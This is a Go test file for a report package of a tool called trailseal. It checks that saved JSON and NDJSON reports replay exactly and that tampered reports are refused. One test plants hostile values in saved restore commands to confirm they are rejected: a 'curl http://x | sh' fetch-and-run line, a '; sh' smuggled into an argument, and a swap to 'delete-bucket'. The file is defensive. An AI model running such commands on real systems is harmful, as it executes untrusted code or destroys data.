package report

import (
	"bytes"
	"fmt"
	"strings"
	"testing"

	"github.com/trailseal/trailseal/verify"
)

func saveAs(t testing.TB, format string, r aRun) []byte { return []byte(play(t, format, r)) }

func replay(t testing.TB, raw []byte, format string, o Options) string {
	t.Helper()
	s, err := OpenSaved(bytes.NewReader(raw), int64(len(raw)))
	if err != nil {
		t.Fatalf("%v\n%.2000s", err, raw)
	}
	var out bytes.Buffer
	w, err := New(format, &out, o)
	if err != nil {
		t.Fatal(err)
	}
	defer w.Close()
	if err := s.Play(w); err != nil {
		t.Fatal(err)
	}
	return out.String()
}

// A saved report says what the run said: every format made of it later has the
// bytes that it would have had at once.
func TestConvertedIsDirect(t *testing.T) {
	all := append(runs(), hostileRun("\xff\xfe"), hostileRun("\x1b[2J\u202e</script>|`\x00"))
	for _, r := range all {
		for _, format := range Formats() {
			direct := play(t, format, r)
			for _, saved := range []string{"json", "ndjson"} {
				if got := replay(t, saveAs(t, saved, r), format, r.options); got != direct {
					t.Errorf("%s: %s of %s differs from direct output:\n%s\nwant\n%s", r.name, format, saved, got, direct)
				}
			}
		}
	}
}

// What is not a whole report is refused, with what is wrong with it.
func TestBrokenSavedReports(t *testing.T) {
	whole := map[string]string{}
	for _, format := range []string{"json", "ndjson"} {
		whole[format] = play(t, format, tamperedRun())
	}
	cases := []struct{ format, old, new, want string }{
		{"json", `"exit": 1`, `"exit": 0`, "contradicts itself"},
		{"json", `"verdict": "tampered"`, `"verdict": "kept"`, "contradicts itself"},
		{"json", `"class":"tampering"`, `"class":"good"`, "is called good"},
		{"json", `"class":"tampering"`, `"class":"remark"`, "contradicts itself"},
		{"json", `"class":"tampering",`, ``, "has no class"},
		{"json", `"seq":2`, `"seq":1`, "follows the place"},
		{"json", `"kept":900`, `"kept":-900`, "a count of -900"},
		{"json", `"verdict":"modified"`, `"verdict":"fine"`, "is not known"},
		{"json", `"reason":"hash-mismatch","reasons":["hash-mismatch"`, `"reason":"new","reasons":["new"`, "is not known"},
		{"json", `"kind":"gap"`, `"kind":"chasm"`, "is not known"},
		{"json", `"state":"gap"`, `"state":"void"`, "is not known"},
		{"json", verify.Schema, "trailseal.report/v2", "schema"},
		{"json", `"findings": [`, `"findings": 7, "x": [`, "no array"},
		{"json", `"started":`, `"began":`, "is missing"},
		{"json", `"exit": 1`, `"exit": 1, "exit": 1`, "twice"},
		{"json", "\n}\n", "\n}\n{}", "follows"},
		{"json", `"%FF`, `"%FE`, ""},
		{"ndjson", `"event":"end"`, `"event":"fin"`, "no end"},
		{"ndjson", `"event":"chain"`, `"event":"chains"`, "is not known"},
		{"ndjson", `"exit":1`, `"exit":3`, "contradicts itself"},
		{"ndjson", `"event":"start"`, `"event":"file"`, "out of its place"},
	}
	for _, c := range cases {
		raw := strings.ReplaceAll(whole[c.format], c.old, c.new)
		if raw == whole[c.format] && c.want != "" {
			t.Errorf("%s: nothing to change: %s", c.format, c.old)
			continue
		}
		_, err := OpenSaved(strings.NewReader(raw), int64(len(raw)))
		if got := fmt.Sprint(err); c.want != "" && !strings.Contains(got, c.want) {
			t.Errorf("%s %s -> %s: %s, want %s", c.format, c.old, c.new, got, c.want)
		}
	}
	for format, raw := range whole {
		for n := 0; n < len(raw)-1; n += 7 {
			if _, err := OpenSaved(strings.NewReader(raw[:n]), int64(n)); err == nil {
				t.Errorf("%s cut after %d of %d bytes is taken for whole", format, n, len(raw))
			}
		}
	}
}

// A command that is to restore a file is one of ours: somebody may run it.
func TestSavedCommands(t *testing.T) {
	for _, format := range []string{"json", "ndjson"} {
		raw := play(t, format, evidenceRun())
		for _, change := range [][2]string{
			{"aws s3api delete-object --bucket", "curl http://x | sh # --bucket"},
			{"--version-id m1", "--version-id v1"},
			{"--version-id m1", "--version-id m1; sh"},
			{"gone.json.gz --version-id", "kept.json.gz --version-id"},
			{"delete-object", "delete-bucket"},
		} {
			text := strings.Replace(raw, change[0], change[1], 1)
			if _, err := OpenSaved(strings.NewReader(text), int64(len(text))); text == raw || err == nil || !strings.Contains(err.Error(), "is not one of trailseal's") {
				t.Errorf("%s %q: %v", format, change, err)
			}
		}
	}
}

// A report of before there were classes and places in it is refused rather than
// guessed at where it has something that is not good.
func FuzzSaved(f *testing.F) {
	for _, r := range runs() {
		f.Add([]byte(play(f, "json", r)))
		f.Add([]byte(play(f, "ndjson", r)))
	}
	f.Fuzz(func(t *testing.T, raw []byte) {
		s, err := OpenSaved(bytes.NewReader(raw), int64(len(raw)))
		if err != nil {
			return
		}
		var out bytes.Buffer
		w, _ := New("json", &out, Options{})
		defer w.Close()
		if err := s.Play(w); err != nil {
			t.Fatalf("it opened and does not play: %v", err)
		}
		again, err := OpenSaved(bytes.NewReader(out.Bytes()), int64(out.Len()))
		if err != nil || again.Summary.Exit != s.Summary.Exit {
			t.Fatalf("what was written of it does not open: %v\n%s", err, out.Bytes())
		}
	})
}
